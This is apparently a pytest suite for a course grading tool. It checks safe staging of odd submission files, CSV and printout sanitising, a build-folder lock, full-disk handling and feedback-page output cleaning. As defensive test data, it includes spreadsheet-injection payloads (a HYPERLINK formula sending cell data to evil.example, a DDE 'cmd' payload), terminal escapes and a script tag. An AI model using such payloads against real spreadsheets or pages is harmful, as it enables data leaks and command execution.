"""Fast tests of what the grader writes and shows about a submission: staging odd files, the CSVs and the
printed lines (no formula, no control character), the build folder's lock, a full disk, and the figures and
notes of the feedback pages.

No grading run here (tests/test_grading.py does those); submissions and outputs are built by hand.
"""

from __future__ import annotations

import base64
import contextlib
import csv
import errno
import io
import json
import os
import signal
import socket
import subprocess
import sys
import time
import unicodedata
from pathlib import Path
from types import SimpleNamespace

import pytest

from course_lib.grading import driver, feedback, layout, lock, reports, submissions, text, trusted

REPO = Path(__file__).resolve().parents[1]
FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n")


def write(path: Path, text: str = "{}") -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


@pytest.fixture
def alarm():
    """Fail instead of hanging: staging that opened a FIFO for reading would wait forever."""
    def ring(signum, frame):
        raise TimeoutError("staging blocked (did it open a FIFO?)")

    old = signal.signal(signal.SIGALRM, ring)
    signal.alarm(30)
    yield
    signal.alarm(0)
    signal.signal(signal.SIGALRM, old)


# ------------------------------------------------------------------------------------------------- staging

def odd_submission(root: Path, monkeypatch) -> Path:
    """ann's nested ps1 folder with a FIFO, a socket, symbolic links, an unreadable file and folder, and a
    nested folder of ordinary files."""
    folder = root / "ann" / "ps1"
    write(folder / "ps1.ipynb", '{"cells": []}')
    write(folder / "data" / "deep" / "weights.csv", "1,2,3")
    write(folder / "secret.txt", "private")
    write(folder / "locked" / "inside.txt", "x")
    write(root / "outside.txt", "not the student's")
    os.mkfifo(folder / "pipe")
    monkeypatch.chdir(folder)  # a socket's path is limited to ~100 characters: bind it by a short one
    sock = socket.socket(socket.AF_UNIX)
    sock.bind("sock")
    (folder / "link.txt").symlink_to(root / "outside.txt")
    (folder / "data" / "up").symlink_to(root)  # a folder link out of the submission
    (folder / "dangling").symlink_to(root / "nowhere")
    (folder / "secret.txt").chmod(0)
    (folder / "locked").chmod(0)
    if os.geteuid() == 0:  # root reads anything: make the two refuse it as they would refuse anyone else
        real_open = os.open

        def refusing_open(path, flags, mode=0o777, *, dir_fd=None):
            if str(path) in ("secret.txt", "locked"):
                raise PermissionError(errno.EACCES, "Permission denied", str(path))
            return real_open(path, flags, mode, dir_fd=dir_fd)

        monkeypatch.setattr(submissions.os, "open", refusing_open)
    return folder


def test_stage_copies_only_regular_files_and_folders_and_says_what_it_left_out(tmp_path, monkeypatch, alarm):
    subs = tmp_path / "subs"
    folder = odd_submission(subs, monkeypatch)
    build = layout.BuildLayout(tmp_path / "build")
    found, _ = submissions.find_submissions(subs, ["ps1"])
    assert [(s.student, s.source) for s in found] == [("ann", folder)]
    left_out: list[str] = []
    dest = submissions.stage(found[0], build, left_out)
    assert dest == build.submitted("ann", "ps1")
    copied = sorted(p.relative_to(dest).as_posix() for p in dest.rglob("*"))
    assert copied == ["data", "data/deep", "data/deep/weights.csv", "ps1.ipynb"]
    assert (dest / "data" / "deep" / "weights.csv").read_text() == "1,2,3"
    for path in dest.rglob("*"):
        assert not path.is_symlink() and (path.is_file() or path.is_dir())
        assert path.resolve().is_relative_to(dest.resolve())
        assert path.stat().st_mode & 0o200, "regrading replaces the copy"
    why = dict(line.split(" (", 1) for line in left_out)
    assert why["pipe"].startswith("a FIFO") and why["sock"].startswith("a socket")
    assert why["link.txt"].startswith("a symbolic link") and why["dangling"].startswith("a symbolic link")
    assert why["data/up"].startswith("a symbolic link")
    assert why["secret.txt"].startswith("cannot be read") and why["locked/"].startswith("cannot be read")
    assert len(left_out) == 7
    note = submissions.left_out_note(left_out, limit=2)
    assert note.startswith("not copied for grading: ") and note.endswith(" and 5 more")
    assert submissions.left_out_note([]) == ""
    # staging again replaces the copy, and the originals are left as they were
    assert submissions.stage(found[0], build) == dest
    assert (folder / "pipe").exists() and (subs / "outside.txt").read_text() == "not the student's"


def test_stage_without_a_list_still_leaves_odd_files_out(tmp_path, monkeypatch, alarm):
    subs = tmp_path / "subs"
    odd_submission(subs, monkeypatch)
    found, _ = submissions.find_submissions(subs, ["ps1"])
    dest = submissions.stage(found[0], layout.BuildLayout(tmp_path / "build"))
    assert sorted(p.name for p in dest.iterdir()) == ["data", "ps1.ipynb"]


def test_an_unreadable_student_folder_is_one_refused_row(tmp_path, monkeypatch):
    subs = tmp_path / "subs"
    write(subs / "ann" / "ps1.ipynb")
    write(subs / "bob" / "ps1.ipynb")
    (subs / "bob").chmod(0)
    if os.geteuid() == 0:  # root lists anything
        real_iterdir = Path.iterdir

        def refusing_iterdir(self):
            if self.name == "bob":
                raise PermissionError(errno.EACCES, "Permission denied", str(self))
            return real_iterdir(self)

        monkeypatch.setattr(Path, "iterdir", refusing_iterdir)
    try:
        found, problems = submissions.find_submissions(subs, ["ps1"])
    finally:
        (subs / "bob").chmod(0o755)
    assert [s.student for s in found] == ["ann"]
    assert [(p.student, p.status) for p in problems] == [("bob", "refused")]
    assert "cannot be read" in problems[0].note and "Permission denied" in problems[0].note


def test_stage_leaves_out_what_is_too_deep(tmp_path):
    subs = tmp_path / "subs"
    write(subs / "ann" / "ps1" / "ps1.ipynb")
    deep = subs / "ann" / "ps1" / Path(*["d"] * (submissions.MAX_STAGE_DEPTH + 3))
    write(deep / "f.txt")
    found, _ = submissions.find_submissions(subs, ["ps1"])
    left_out: list[str] = []
    dest = submissions.stage(found[0], layout.BuildLayout(tmp_path / "build"), left_out)
    assert len(left_out) == 1 and "folders deep" in left_out[0]
    assert not list(dest.rglob("f.txt"))


def test_stage_on_a_full_disk_raises_a_clear_error_and_leaves_no_partial_copy(tmp_path, monkeypatch):
    subs = tmp_path / "subs"
    write(subs / "ann" / "ps1" / "ps1.ipynb")
    write(subs / "ann" / "ps1" / "big.npy", "x" * 1000)
    found, _ = submissions.find_submissions(subs, ["ps1"])
    build = layout.BuildLayout(tmp_path / "build")

    def full(*args, **kwargs):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(submissions, "_copy_file", full)
    with pytest.raises(layout.BuildWriteError, match="no space left on device") as caught:
        submissions.stage(found[0], build)
    assert caught.value.errno == errno.ENOSPC and "--build-dir" in str(caught.value)
    assert not build.submitted("ann", "ps1").exists()


# ---------------------------------------------------------------------------------------- CSVs and printing

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\tleading tab", "\rleading cr", "a\x1b[31mred\x1b[0m", "a\nb ok 14/14", "nul\x00del\x7fc1\x85",
           "\u202eevil", " =spaced", "\uff1dfullwidth", "bad\udcffbytes"]


def unsafe_chars(text: str) -> list[str]:
    return [c for c in text if unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp")]


def read_rows(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def test_csv_cells_from_students_are_neither_formulas_nor_control_characters(tmp_path):
    build = layout.BuildLayout(tmp_path / "build")
    subs = [submissions.Submission(name, "ps1", None, status="misnamed", max_score=14, note=name,
                                   timed_out_cells=[name, "ok"], by_question=[(name, 1.0, 2.0)])
            for name in HOSTILE]
    subs.append(submissions.Submission("ann", "ps1", None, status="graded", score=-1, max_score=14,
                                       note="ok"))
    grades, by_question = reports.write_reports(subs, build)
    rows, qrows = read_rows(grades), read_rows(by_question)
    assert len(rows) == len(subs) + 1 and len(qrows) == len(HOSTILE) + 1, "a newline forged no row"
    for row in rows[1:] + qrows[1:]:
        for cell in row:
            assert not cell.lstrip(" ").startswith(FORMULA + ("\uff1d",)) or cell == "-1", row
            assert not unsafe_chars(cell), row
    assert rows[1][0] == "'" + HOSTILE[0]  # the text is kept, made inert
    by_name = {r[7]: r for r in rows[1:]}
    assert "a\\nb ok 14/14" in by_name and "a\\x1b[31mred\\x1b[0m" in by_name
    assert rows[-1][:3] == ["ann", "ps1", "-1"], "the grader's own numbers are written as they are"


def test_hostile_folder_names_are_rows_and_are_made_inert(tmp_path):
    subs = tmp_path / "subs"
    for name in ("=HYPERLINK(1)", "+cmd", "x\x1b[31m", "a\nb", "ann"):
        write(subs / name / "ps1.ipynb")
    found, problems = submissions.find_submissions(subs, ["ps1"])
    assert [s.student for s in found] == ["ann"]
    assert {p.status for p in problems} == {"misnamed"}
    grades, _ = reports.write_reports(found + problems, layout.BuildLayout(tmp_path / "build"))
    rows = read_rows(grades)
    assert len(rows) == 6
    for row in rows[1:]:
        assert all(not c.startswith(FORMULA) and not unsafe_chars(c) for c in row), row


def test_printable_keeps_one_line_and_no_terminal_escape():
    assert reports.printable("a\nb\r\t\x1b[31m\x7f\x9b\u202e\u2028é") == \
        "a\\nb\\r\\t\\x1b[31m\\x7f\\x9b\\u202e\\u2028é"
    assert reports.printable("plain ascii, (kept) 14/14") == "plain ascii, (kept) 14/14"
    assert reports.printable("x" * 50, limit=10) == "x" * 10 + "..."
    assert reports.csv_text("=1+1") == "'=1+1" and reports.csv_text("ann") == "ann"


def test_summary_has_one_line_per_submission_whatever_the_names(tmp_path):
    build = layout.BuildLayout(tmp_path / "build")
    forged = submissions.Submission("a\nb ok 14/14", "ps1\r", None, status="graded\x1b[2K", max_score=14)
    ann = submissions.Submission("ann", "ps1", None, status="graded", score=14, max_score=14)
    lines = reports.format_summary([forged, ann], build).split("\n")
    assert len(lines) == 4  # header, two rows, total
    assert lines[1].startswith("a\\nb ok 14/14") and lines[2].split()[:3] == ["ann", "ps1", "14/14"]
    assert not any(unsafe_chars(line) for line in lines)


# ----------------------------------------------------------------------------------------------- full disk

def test_a_full_disk_raises_a_clear_error_and_leaves_no_temporary_file(tmp_path, monkeypatch):
    build = layout.BuildLayout(tmp_path / "build")
    subs = [submissions.Submission("ann", "ps1", None, status="graded", score=3, max_score=14,
                                   by_question=[("t1", 3.0, 14.0)])]
    reports.write_reports(subs, build)
    before = build.grades_csv.read_bytes()

    def full(fd):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(reports.os, "fsync", full)
    subs[0].score = 14
    with pytest.raises(reports.ReportWriteError) as caught:
        reports.write_reports(subs, build)
    message = str(caught.value)
    assert "grades.csv" in message and "no space left on device" in message and "--build-dir" in message
    assert caught.value.errno == errno.ENOSPC and isinstance(caught.value, layout.BuildWriteError)
    assert build.grades_csv.read_bytes() == before, "the last good file stays"
    assert sorted(p.name for p in build.build.iterdir()) == ["grades.csv", "grades_by_question.csv"]
    page = build.feedback("ann", "ps1") / "ps1.html"
    with pytest.raises(reports.ReportWriteError, match="ps1.html: no space left on device"):
        reports.write_text_atomic(page, "<p>page</p>")
    assert list(page.parent.iterdir()) == []


def test_a_failing_write_or_rename_leaves_no_temporary_file(tmp_path, monkeypatch):
    build = layout.BuildLayout(tmp_path / "build")
    subs = [submissions.Submission("ann", "ps1", None, status="graded", max_score=14)]

    def quota(src, dst):
        raise OSError(errno.EDQUOT, "Disk quota exceeded")

    monkeypatch.setattr(reports.os, "replace", quota)
    with pytest.raises(reports.ReportWriteError, match="disk quota exceeded"):
        reports.write_reports(subs, build)
    monkeypatch.undo()
    with pytest.raises(ZeroDivisionError):  # not an OSError: raised as it is, and still no temporary file
        reports._atomic_write(build.grades_csv, lambda f: 1 / 0)
    assert list(build.build.iterdir()) == []
    reports.write_text_atomic(build.build / "page.html", "<p>ok</p>")
    assert (build.build / "page.html").stat().st_mode & 0o777 == 0o644


# ---------------------------------------------------------------------------------------------------- lock

HOLDER = """
import sys
from pathlib import Path
from course_lib.grading import layout, lock
with lock.grading_lock(layout.BuildLayout(Path(sys.argv[1]))):
    print("held", flush=True)
    sys.stdin.read()
"""


def test_a_second_grading_run_on_one_build_folder_is_refused_until_the_first_dies(tmp_path):
    build = layout.BuildLayout(tmp_path / "build")
    holder = subprocess.Popen([sys.executable, "-c", HOLDER, str(build.build)], cwd=REPO, text=True,
                              stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    try:
        assert holder.stdout.readline() == "held\n"
        info = json.loads(build.lock_file.read_text())
        assert info["pid"] == holder.pid and info["started"]
        with pytest.raises(lock.BuildLockedError) as caught:
            with lock.grading_lock(build):
                pytest.fail("two runs held the build folder")
        message = str(caught.value)
        assert f"pid {holder.pid}" in message and info["started"] in message and "--build-dir" in message
        assert caught.value.pid == holder.pid
        # another build folder is free
        with lock.grading_lock(layout.BuildLayout(tmp_path / "other")):
            pass
    finally:
        holder.kill()  # killed, not asked: the kernel releases the lock of a dead process
        holder.wait(timeout=30)
    with lock.grading_lock(build) as path:
        assert path == build.lock_file
        assert json.loads(path.read_text())["pid"] == os.getpid()
        with lock.grading_lock(build):  # re-entrant in the process that holds it
            pass
        assert json.loads(path.read_text())["pid"] == os.getpid(), "still held after the inner block"
        other = subprocess.run([sys.executable, "-c", HOLDER, str(build.build)], cwd=REPO, input="",
                               capture_output=True, text=True, timeout=60)
        assert other.returncode != 0 and "BuildLockedError" in other.stderr
    done = subprocess.run([sys.executable, "-c", HOLDER, str(build.build)], cwd=REPO, input="",
                          capture_output=True, text=True, timeout=60)
    assert done.returncode == 0 and done.stdout == "held\n", "released on leaving the block"


FORKING_HOLDER = """
import os, sys, time
from pathlib import Path
from course_lib.grading import layout, lock
with lock.grading_lock(layout.BuildLayout(Path(sys.argv[1]))):
    running_r, running_w = os.pipe()
    child = os.fork()
    if child == 0:  # a worker forked without exec: it must not keep the lock alive
        os.write(running_w, b"r")  # it runs (its copy of the lock is dropped at the fork, before this)
        time.sleep(120)
        os._exit(0)
    os.close(running_w)
    os.read(running_r, 1)  # not before the child ran: on a loaded machine it may not have yet
    print(child, flush=True)
    sys.stdin.read()
"""


def test_a_killed_run_frees_the_build_folder_even_while_its_forked_children_live(tmp_path):
    build = layout.BuildLayout(tmp_path / "build")
    holder = subprocess.Popen([sys.executable, "-c", FORKING_HOLDER, str(build.build)], cwd=REPO, text=True,
                              stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    child = int(holder.stdout.readline())
    try:
        with pytest.raises(lock.BuildLockedError):
            with lock.grading_lock(build):
                pass
        holder.kill()
        holder.wait(timeout=30)
        os.kill(child, 0)  # still alive
        with lock.grading_lock(build):
            pass
    finally:
        holder.kill()
        with contextlib.suppress(ProcessLookupError):
            os.kill(child, signal.SIGKILL)


# ------------------------------------------------------------------------------------------------ feedback

def png(size: int = 30_000) -> bytes:
    """A real PNG of about ``size`` bytes (noise does not compress)."""
    import zlib

    width = 100
    height = max(size // (3 * width), 1)
    raw = b"".join(b"\x00" + os.urandom(3 * width) for _ in range(height))

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return len(data).to_bytes(4, "big") + body + zlib.crc32(body).to_bytes(4, "big")

    header = width.to_bytes(4, "big") + height.to_bytes(4, "big") + bytes([8, 2, 0, 0, 0])
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(raw))
            + chunk(b"IEND", b""))


def captured(*data: dict, stdout: str = "", stderr: str = ""):
    return SimpleNamespace(stdout=stdout, stderr=stderr, outputs=[SimpleNamespace(data=d) for d in data])


def page_of(outputs, dropped=None, **cell) -> str:
    result = trusted.CellResult("plot()", cell.pop("kind", "code"), outputs=outputs, **cell)
    page, _ = feedback.render("ps1: ann", [result], score=0, max_score=1, hidden_lines=set(), notes=[],
                              dropped=dropped)
    return page


def test_an_ordinary_figure_reaches_the_feedback_page_whole():
    image = base64.b64encode(png(30_000)).decode()
    assert len(image) > text.MAX_TEXT, "bigger than the text cut, as a 30 KB figure is"
    sent = driver._outputs(captured({"text/plain": "<Figure size 640x480 with 1 Axes>", "image/png": image},
                                    {"image/png": png(2_000)}, stdout="x" * 30_000))
    kept = sent[0]["text"]
    assert kept.startswith("x" * (text.MAX_TEXT - 100)) and "characters cut" in kept
    assert len(kept) <= text.MAX_TEXT
    assert sent[1]["data"]["image/png"] == image
    assert base64.b64decode(sent[2]["data"]["image/png"]).startswith(b"\x89PNG"), "bytes become base64"
    dropped: list[str] = []
    page = page_of(json.loads(json.dumps(sent)), dropped)  # as it crosses the wire
    assert f'src="data:image/png;base64,{image}"' in page and page.count("<img") == 2
    assert "not shown" not in page and dropped == [] and feedback.dropped_note(dropped) == ""
    assert "&lt;Figure size" not in page, "a figure's text stands for it only when it is not shown"
    lines = "\n".join(image[i:i + 76] for i in range(0, len(image), 76))  # base64 as Jupyter may wrap it
    assert feedback.clean_outputs([{"data": {"image/png": lines}}])[0]["data"]["image/png"] == image


def test_figures_that_are_too_big_too_many_or_not_images_are_named_not_shown():
    big = base64.b64encode(png(feedback.MAX_IMAGE_BYTES + 50_000)).decode()
    small = base64.b64encode(png(500)).decode()
    sent = driver._outputs(captured({"image/png": big, "text/plain": "<Figure>"},
                                    *[{"image/png": small}] * (feedback.MAX_IMAGES + 1)))
    assert sent[0]["data"]["image/png"] == {"omitted": "size"} and sent[-1]["data"]["image/png"] == {
        "omitted": "count"}
    dropped: list[str] = []
    page = page_of(sent, dropped)
    assert page.count("<img") == feedback.MAX_IMAGES
    assert f"figure larger than {feedback.MAX_IMAGE_BYTES // 1024} KB not shown" in page
    assert f"more than {feedback.MAX_IMAGES} figures" in page and "&lt;Figure&gt;" in page
    assert len(dropped) == 2 and "2 output(s) not shown" in feedback.dropped_note(dropped)
    # the grader's own caps, whatever the driver sent
    jpeg_as_png = base64.b64encode(b"\xff\xd8\xff" + os.urandom(100)).decode()
    outputs = [{"data": {"image/png": big}}, {"data": {"image/png": "not base64 <script>"}},
               {"data": {"image/png": jpeg_as_png}}, {"data": {"image/jpeg": jpeg_as_png}},
               {"data": {"image/png": ["nested", ["list"]]}}]
    cleaned = feedback.clean_outputs(outputs)
    reasons = [c.get("dropped", "") for c in cleaned]
    assert reasons[0] == f"figure larger than {feedback.MAX_IMAGE_BYTES // 1024} KB not shown"
    assert "not valid base64" in reasons[1] and "not a PNG image" in reasons[2] and reasons[3] == ""
    assert "not text" in reasons[4]
    page = page_of(outputs)
    assert page.count("<img") == 1 and "<script" not in page


def test_clean_outputs_bounds_hostile_shapes_quickly():
    many_keys = {f"application/x-{i}": "v" for i in range(12_000)}
    many_keys[42] = "a key that is not text"
    hostile = [
        {"data": many_keys},
        {"data": {"text/plain": [[["nested"] * 1000] * 1000], "text/html": "<b>x</b>"}},
        {"data": {"text/plain": "y" * 50_000_000}},
        {"name": "stdout", "text": {"not": "text"}},
        {"name": "stderr", "text": "z" * 10_000_000},
        "a string", 17, None, [1, 2], {"data": "not a dict"}, {"data": {}},
        {"data": {"text/html": "<script>alert(1)</script>"}},
        {"data": {"text/plain": "ok", "text/html": "<b>ok</b>"}, "note": "forged", "dropped": "forged"},
    ] + [{"name": "stdout", "text": "w" * 1_000_000}] * 100_000
    start = time.monotonic()
    cleaned = feedback.clean_outputs(hostile)
    assert time.monotonic() - start < 2.0
    assert len(cleaned) <= feedback.MAX_OUTPUTS + 1
    total = 0
    for item in cleaned:
        assert isinstance(item, feedback.CleanOutput)
        if "text" in item:
            assert set(item) == {"name", "text"} and item["name"] in ("stdout", "stderr")
            assert isinstance(item["text"], str) and len(item["text"]) <= feedback.MAX_TEXT + 100
            total += len(item["text"])
        else:
            assert set(item) <= {"data", "note", "dropped"} and set(item["data"]) <= {
                "text/plain", "image/png", "image/jpeg"}
            assert all(isinstance(v, str) for v in item["data"].values())
            assert all(isinstance(item.get(k, ""), str) and item.get(k) != "" for k in item if k != "data")
            assert item["data"] or item.get("dropped"), "nothing shown and no word of why"
            total += sum(len(v) for v in item["data"].values())
            assert "forged" not in item.get("note", "") + item.get("dropped", "")
    assert total <= feedback.MAX_CELL_CHARS + 1000
    more = len(hostile) - feedback.MAX_OUTPUTS
    assert cleaned[-1]["dropped"] == (f"{more} more output(s) of this cell not shown (more than "
                                      f"{feedback.MAX_OUTPUTS} outputs)")
    assert "application/x-0" in cleaned[0]["dropped"] and "more" in cleaned[0]["dropped"]
    assert feedback.clean_outputs(cleaned) == cleaned, "cleaning twice changes nothing"
    assert feedback.clean_outputs("not a list")[0]["dropped"]


def test_a_cell_shows_at_most_its_budget_of_figures_and_text():
    big = base64.b64encode(png(feedback.MAX_IMAGE_BYTES - 100_000)).decode()
    outputs = [{"data": {"image/png": big}}] * 3 + [{"name": "stdout", "text": "t" * 100}] * 30
    cleaned = feedback.clean_outputs(outputs)
    assert [bool(c.get("data", {}).get("image/png")) for c in cleaned[:3]] == [True, True, False]
    assert "over 4 MB" in cleaned[2]["dropped"]
    assert sum(len(c.get("text", "")) + sum(map(len, c.get("data", {}).values())) for c in cleaned) \
        <= feedback.MAX_CELL_CHARS + 100
    assert feedback.clean_outputs(cleaned) == cleaned


def test_nothing_is_left_out_of_a_page_without_a_word_of_why():
    outputs = [{"data": {}}, 42, {"data": {"application/x-thing": "..."}}, {"text": None},
               {"data": {"text/html": "<b>rich</b>"}}, {"data": {"text/plain": "kept", "text/html": "<b>"}}]
    dropped: list[str] = []
    page = page_of(outputs, dropped, kind="test", grade_id="t1", score=0.0, max_score=1.0)
    for words in ("an empty output", "not a display item", "application/x-thing not shown",
                  "printed output that is not text", "text/html not shown", "rich output shown as text",
                  "failed (the test gave no message)"):
        assert words in page, words
    assert len(dropped) == 5 and all(dropped)
    note = feedback.dropped_note(dropped)
    assert note.startswith("feedback: 5 output(s) not shown (") and "an empty output" in note
    assert feedback.check_page(page, set()) == ""
    assert feedback.check_page(page + "<script>", set()) != ""


def test_driver_outputs_cut_text_but_survive_values_json_cannot_write():
    loop: list = []
    loop.append(loop)
    sent = driver._outputs(captured({"application/json": loop, "text/plain": "t" * 30_000}))
    assert "not shown" in sent[0]["data"]["application/json"]
    assert len(sent[0]["data"]["text/plain"]) < text.MAX_TEXT + 100
    assert io.StringIO(json.dumps(sent)).read()  # it crosses the wire
